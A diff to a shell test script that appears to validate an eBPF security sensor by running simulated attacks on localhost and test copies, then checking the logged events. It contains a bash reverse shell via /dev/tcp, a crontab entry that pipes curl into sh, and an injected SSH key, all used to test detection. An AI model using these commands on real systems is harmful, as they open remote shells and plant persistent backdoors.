@@ -123,6 +123,21 @@ workload() {
 	wait_file "$T/rev.ready"
 	N timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/14444 0>&1' 2>/dev/null
 	wait "$lis"
+	# 3b. IPv6: bash sends 6 bytes to a listener on [::1]
+	N python3 -c '
+import socket, sys
+s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("::1", 18081)); s.listen(1); s.settimeout(10); open(sys.argv[1], "w").write("ready\n")
+c, _ = s.accept(); c.settimeout(10); n = 0
+while True:
+    b = c.recv(4096)
+    if not b: break
+    n += len(b)
+open(sys.argv[2], "w").write("%d\n" % n)' "$T/v6.ready" "$T/v6.count" &
+	local v6=$!
+	wait_file "$T/v6.ready"
+	N timeout 10 bash -c 'echo hello > /dev/tcp/::1/18081'
+	wait "$v6"
 	# 4. persistence on test copies
 	N sh -c "echo '* * * * * curl -s http://127.0.0.1/x | sh' >> '$T/spool/crontab'"
 	N sh -c "echo 'ssh-ed25519 AAAAC3NzaTEST stoat-test' >> '$T/home/.ssh/authorized_keys'"
@@ -143,6 +158,9 @@ elif grep -q '^READY fallback' "$EV"; then
 	stop_probe
 else
 	ok "ebpf: sensor started ($(head -c 40 "$EV" | sed 's/^READY //'))"
+	# after loading, only CAP_SYS_PTRACE (19) and CAP_DAC_READ_SEARCH (2) stay
+	CAPS=$(sed -n 's/^CapEff:\s*//p' "/proc/$PROBE_PID/status")
+	if [ "$CAPS" = "0000000000080004" ]; then ok "ebpf: capabilities dropped (CapEff $CAPS)"; else bad "ebpf: CapEff $CAPS"; fi
 	workload ebpf
 	stop_probe
 	SZ=$(stat -c %s "$T/jewels/spec.bin")
@@ -175,6 +193,11 @@ else
 	expect "ebpf: bash connect to 14444" "$EV" connect Image~'/bash$' DestinationIp=127.0.0.1 DestinationPort=14444 Initiated=true
 	expect "ebpf: shell with socket stdio (fds 0,1,2 -> 127.0.0.1:14444)" "$EV" sock_stdio Image~'/bash$' "CommandLine=bash -i" StdioFds=0,1,2 DestinationIp=127.0.0.1 DestinationPort=14444
 	expect "ebpf: command run by the reverse shell" "$EV" exec Image~'/sleep$' "CommandLine=/bin/sleep 0.3" ParentCommandLine='bash -i'
+
+	# IPv6
+	expect "ebpf: IPv6 connect to [::1]:18081" "$EV" connect Image~'/bash$' DestinationIp=::1 DestinationIsIpv6=true DestinationPort=18081 SourceIp=::1
+	expect "ebpf: IPv6 close BytesSent=6 ($(cat "$T/v6.count" 2>/dev/null | tr -d '\n') received)" "$EV" close Image~'/bash$' DestinationIp=::1 DestinationPort=18081 BytesSent=6 BytesReceived=0
+	expect "ebpf: IPv6 accept" "$EV" accept SourceIp=::1 SourcePort=18081 Initiated=false
 
 	# persistence on test copies
 	expect "ebpf: crontab copy written (append)" "$EV" open "TargetFilename=$T/spool/crontab" AccessMode~'^write.*append'
